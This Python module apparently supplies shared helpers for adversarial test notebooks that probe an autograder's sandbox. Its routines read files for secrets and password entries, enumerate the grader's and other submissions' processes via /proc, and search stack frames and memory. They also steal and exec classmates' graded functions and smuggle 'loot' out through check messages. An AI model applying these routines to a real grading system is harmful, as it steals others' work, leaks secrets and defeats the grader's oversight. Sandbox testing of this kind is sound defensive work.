# ruff: noqa: F821
"""Helpers every hostile notebook runs first, right after the cell that defines ``P``.

``P`` holds what the test substitutes: paths, ports, tokens. What an attack
manages to read goes to ``LOOT`` and leaves through notes and messages
(``report.py``); what it manages to do is named in ``BREACHES``.
"""

import gc
import glob
import os
import sys
import time

LOOT: list[str] = []  # one line each, smuggled out through notes and check messages
BREACHES: list[str] = []  # techniques that got through the sandbox
FAILED: list[str] = []  # techniques that were stopped (kept for debugging)
STOLEN: dict = {}  # graded functions taken from somewhere else, installed by the last cell


def loot(text, where=""):
    """Keep one line of ``text`` (windows around known secrets first) to smuggle out."""
    text = text.decode("utf-8", "replace") if isinstance(text, bytes) else str(text)
    text = text.replace("\0", " ")
    hits = []
    for needle in (P["env_name"], P["marker_prefix"], "root:"):
        at = text.find(needle)
        if at >= 0:
            hits.append(text[max(0, at - 20) : at + 160])
    for chunk in hits or [text[:240]]:
        line = " ".join(f"{where} {chunk}".split())[:280]
        if line.strip() and line not in LOOT:
            LOOT.append(line)


def breach(name, detail=""):
    if name not in BREACHES:
        BREACHES.append(name)
    if detail:
        loot(detail, f"[{name}]")


def attempt(fn):
    """Decorator: run the technique at once; an error only means it was stopped."""
    try:
        fn()
    except BaseException as exc:  # noqa: BLE001 - a sandbox may raise anything
        FAILED.append(f"{fn.__name__}: {type(exc).__name__}: {str(exc)[:80]}")
    return fn


def read(path, limit=1 << 20):
    """Bytes of ``path`` (at most ``limit``), or None; never blocks on a FIFO."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return None
    try:
        chunks, size = [], 0
        while size < limit:
            data = os.read(fd, min(1 << 16, limit - size))
            if not data:
                break
            chunks.append(data)
            size += len(data)
        return b"".join(chunks)
    except OSError:
        return None
    finally:
        os.close(fd)


def write(path, data=b"", mode=0o644):
    """Create ``path`` with ``data``; True when it worked."""
    try:
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NONBLOCK, mode)
    except OSError:
        return False
    try:
        os.write(fd, data if isinstance(data, bytes) else str(data).encode())
        return True
    except OSError:
        return False
    finally:
        os.close(fd)


def source_line(text):
    """The longest line of a source file without quotes: what the test looks for."""
    if isinstance(text, bytes):
        text = text.decode("utf-8", "replace")
    lines = [s.strip() for s in text.splitlines() if "'" not in s and '"' not in s]
    return max(lines, key=len, default="")


def pids():
    out = []
    try:
        names = os.listdir("/proc")
    except OSError:
        return out
    for name in names:
        if name.isdigit() and int(name) != os.getpid():
            out.append(int(name))
    return out


def cmdline(pid):
    return (read(f"/proc/{pid}/cmdline") or b"").replace(b"\0", b" ")


def batch_pids():
    """Processes of this grading batch but not ours: the grader, classmates, the decoys."""
    mine = {os.getpid(), *MY_CHILDREN}
    found = []
    for pid in pids():
        cmd = cmdline(pid)
        if pid not in mine and (
            P["batch_token"].encode() in cmd or P["victim_token"].encode() in cmd
        ):
            found.append(pid)
    return found


MY_CHILDREN: list[int] = []


def in_own_pid_namespace():
    """True only when this process cannot see the machine's processes (then kill(-1) is safe)."""
    try:
        return os.readlink("/proc/self/ns/pid") != P["host_pidns"]
    except OSError:
        return False


def frame_dirs():
    """Folders named by local variables of the frames above us (the grader's, in the child)."""
    found = set()
    frame = sys._getframe()
    while frame is not None:
        try:
            values = list(frame.f_locals.values())
        except Exception:  # noqa: BLE001
            values = []
        for v in values:
            if isinstance(v, (str, os.PathLike)):
                try:
                    p = os.fspath(v)
                    if (
                        isinstance(p, str)
                        and p.startswith("/")
                        and len(p) < 4096
                        and os.path.isdir(p)
                    ):
                        found.add(os.path.realpath(p))
                except Exception:  # noqa: BLE001
                    pass
        frame = frame.f_back
    return found


def observation_dirs():
    """(ours, others): folders where observation files of a submission seem to live."""
    mine, others = set(), set()
    here = os.path.realpath(os.getcwd())
    base = os.path.dirname(here)
    candidates = {os.path.join(base, "obs"), *frame_dirs()}
    for fd in glob.glob("/proc/self/fd/*"):
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        if target.startswith("/"):
            candidates.add(target if os.path.isdir(target) else os.path.dirname(target))
    for pattern in (
        "/tmp/autograder-*/*/obs",
        "/tmp/autograder-*/*",
        "/tmp/*/*/obs",
        "/dev/shm/*/obs",
    ):
        candidates.update(glob.glob(pattern))
    for d in candidates:
        if not os.path.isdir(d) or d in ("/", "/tmp", here):
            continue
        try:
            names = os.listdir(d)
        except OSError:
            continue
        if d.startswith(base + os.sep) or d == base or d in frame_dirs():
            mine.add(d)
        elif any(n.startswith("check") or n == "cells.json" for n in names):
            others.add(d)
    return mine, others


def strings_in_memory(needle, limit=200):
    """Strings held by containers the garbage collector tracks that contain ``needle``."""
    found = []
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict):
                items = list(obj.values())
            elif isinstance(obj, (list, tuple, set, frozenset)):
                items = list(obj)
            elif hasattr(obj, "__dict__") and not isinstance(obj, type):
                items = list(vars(obj).values())
            else:
                continue
        except Exception:  # noqa: BLE001
            continue
        for item in items:
            if (
                isinstance(item, str)
                and needle in item
                and P["sentinel"] not in item  # not our own parameters
                and item not in P.values()
                and item not in found
            ):
                found.append(item)
                if len(found) >= limit:
                    return found
    return found


def exec_definitions(source, into):
    """Run ``source`` in ``into``; True when it defined something callable."""
    before = set(into)
    try:
        exec(compile(source, "<stolen>", "exec"), into)  # noqa: S102
    except BaseException:  # noqa: BLE001
        return False
    return any(callable(into[k]) for k in set(into) - before)


GRADED = {
    "a1_convolution": [
        "conv_output_size", "zero_pad", "corr2d", "conv2d_true", "make_kernel", "same_padding",
        "conv2d_forward", "pool2d_forward", "im2col", "conv2d_im2col", "gaussian_kernel_1d",
        "separable_blur",
    ],
    "a2_keras_cnn": [
        "conv_param_count", "dense_param_count", "batchnorm_param_count",
        "separable_conv_param_count", "receptive_field", "predict_shapes", "predict_param_count",
        "build_from_spec", "build_lenet", "build_cnn",
    ],
}[P["aid"]]  # fmt: skip


def fresh_namespace():
    """A namespace like the notebook's: the modules its setup cell imported."""
    import types

    ns = {"__builtins__": __builtins__, "__name__": "__main__"}
    ns.update({k: v for k, v in globals().items() if isinstance(v, types.ModuleType)})
    return ns


def steal_from(namespace, how):
    """Keep the graded functions ``namespace`` defines (not stubs) for the last cell."""
    got = []
    for name in GRADED:
        fn = namespace.get(name)
        code = getattr(fn, "__code__", None)
        if (
            callable(fn)
            and code is not None
            and "NotImplementedError" not in code.co_names
            and fn is not globals().get(name)
        ):
            STOLEN.setdefault(name, fn)
            got.append(name)
    if got:
        breach(how, f"{how}: took {len(got)} functions")
    return got


START = time.monotonic()
